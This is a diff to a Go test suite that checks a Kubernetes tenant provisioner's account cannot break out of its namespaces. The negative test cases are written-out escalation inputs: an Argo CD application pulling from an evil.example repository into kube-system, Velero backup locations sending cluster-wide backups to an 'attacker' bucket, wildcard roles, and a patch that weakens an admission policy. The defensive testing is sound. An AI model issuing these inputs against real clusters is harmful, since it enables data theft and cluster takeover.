@@ -415,6 +415,7 @@ spec:
 	t.Run("the provisioner's account is fenced into tenant namespaces", func(t *testing.T) {
 		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
 		defer cancel()
+		kubectlOK(t, kc, kc.AdminKubeconfig, `{"apiVersion":"storage.k8s.io/v1","kind":"StorageClass","metadata":{"name":"tenant-not-ours"},"provisioner":"ebs.csi.aws.com"}`, "create", "-f", "-")
 		gateway := kc.Kubeconfig(t, "gateway-sa", serviceAccountToken(t, kc, "tenantgate"))
 		for _, c := range []struct {
 			name, kubeconfig, want string
@@ -439,14 +440,28 @@ spec:
 			{"a privileged tenant namespace", provisioner, "Pod Security baseline or restricted",
 				[]string{"label", "--overwrite", "namespace", "tenant-" + tenantA, "pod-security.kubernetes.io/enforce=privileged"}},
 			{"a default StorageClass", provisioner, "never a default one",
-				[]string{"create", "-f", "-", "<" + `{"apiVersion":"storage.k8s.io/v1","kind":"StorageClass","metadata":{"name":"tenant-pwn","annotations":{"storageclass.kubernetes.io/is-default-class":"true"}},"provisioner":"ebs.csi.aws.com"}`}},
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"storage.k8s.io/v1","kind":"StorageClass","metadata":{"name":"tenant-pwn","labels":{"app.kubernetes.io/managed-by":"tenantgate"},"annotations":{"storageclass.kubernetes.io/is-default-class":"true"}},"provisioner":"ebs.csi.aws.com"}`}},
 			{"an Argo CD project for the cluster", provisioner, "confined to the namespace of their name",
-				[]string{"create", "-f", "-", "<" + `{"apiVersion":"argoproj.io/v1alpha1","kind":"AppProject","metadata":{"name":"tenant-pwn","namespace":"argocd"},"spec":{"sourceRepos":["*"],"destinations":[{"server":"*","namespace":"*"}],"clusterResourceWhitelist":[{"group":"*","kind":"*"}]}}`}},
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"argoproj.io/v1alpha1","kind":"AppProject","metadata":{"name":"tenant-pwn","namespace":"argocd","labels":{"app.kubernetes.io/managed-by":"tenantgate"}},"spec":{"sourceRepos":["*"],"destinations":[{"server":"*","namespace":"*"}],"clusterResourceWhitelist":[{"group":"*","kind":"*"}]}}`}},
 			{"an Argo CD application into kube-system", provisioner, "confined to the namespace of their name",
-				[]string{"create", "-f", "-", "<" + `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","metadata":{"name":"tenant-pwn","namespace":"argocd"},"spec":{"project":"default","source":{"repoURL":"https://evil.example/x.git","path":"."},"destination":{"server":"https://kubernetes.default.svc","namespace":"kube-system"}}}`}},
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","metadata":{"name":"tenant-pwn","namespace":"argocd","labels":{"app.kubernetes.io/managed-by":"tenantgate"}},"spec":{"project":"default","source":{"repoURL":"https://evil.example/x.git","path":"."},"destination":{"server":"https://kubernetes.default.svc","namespace":"kube-system"}}}`}},
 			{"a backup of every namespace", provisioner, "each schedule backing up the namespace of its name",
-				[]string{"create", "-f", "-", "<" + `{"apiVersion":"velero.io/v1","kind":"Schedule","metadata":{"name":"tenant-pwn","namespace":"velero"},"spec":{"schedule":"@hourly","template":{"includedNamespaces":["*"],"includeClusterResources":true,"storageLocation":"tenant-pwn"}}}`}},
-			{"a backup location of another name", provisioner, "only tenant-* Velero objects",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"velero.io/v1","kind":"Schedule","metadata":{"name":"tenant-pwn","namespace":"velero","labels":{"app.kubernetes.io/managed-by":"tenantgate"}},"spec":{"schedule":"@hourly","template":{"includedNamespaces":["*"],"includeClusterResources":true,"storageLocation":"tenant-pwn"}}}`}},
+			{"namespace rights for an identity outside the fence", provisioner, "grant only workloads in their namespace",
+				[]string{"-n", "tenant-" + tenantA, "create", "role", "ns-owner", "--verb=get,patch", "--resource=namespaces"}},
+			{"a wildcard role", provisioner, "grant only workloads in their namespace",
+				[]string{"-n", "tenant-" + tenantA, "create", "role", "all", "--verb=*", "--resource=*.*"}},
+			{"an old Pod Security version", provisioner, "at latest",
+				[]string{"label", "--overwrite", "namespace", "tenant-" + tenantA, "pod-security.kubernetes.io/enforce-version=v1.0"}},
+			{"another tenant's label", provisioner, "tenant=<its ID>",
+				[]string{"label", "--overwrite", "namespace", "tenant-" + tenantA, "tenant=" + tenantB}},
+			{"a default backup location", provisioner, "never a default location",
+				[]string{"create", "-f", "-", "<" + `{"apiVersion":"velero.io/v1","kind":"BackupStorageLocation","metadata":{"name":"tenant-pwn","namespace":"velero","labels":{"app.kubernetes.io/managed-by":"tenantgate"}},"spec":{"provider":"aws","default":true,"objectStorage":{"bucket":"attacker"}}}`}},
+			{"someone else's tenant-* StorageClass", provisioner, "labelled app.kubernetes.io/managed-by=tenantgate",
+				[]string{"delete", "storageclass", "tenant-not-ours"}},
+			{"rewriting a platform policy", provisioner, "forbidden",
+				[]string{"patch", "validatingadmissionpolicybinding", "tenantgate-tenant-services", "--type=merge", "-p", `{"spec":{"validationActions":["Audit"]}}`}},
+			{"a backup location of another name", provisioner, "only tenant-*",
 				[]string{"create", "-f", "-", "<" + `{"apiVersion":"velero.io/v1","kind":"BackupStorageLocation","metadata":{"name":"exfil","namespace":"velero"},"spec":{"provider":"aws","objectStorage":{"bucket":"attacker"}}}`}},
 			{"the gateway writing RBAC", gateway, "forbidden",
 				[]string{"-n", "tenant-" + tenantA, "create", "role", "pwn", "--verb=get", "--resource=secrets"}},
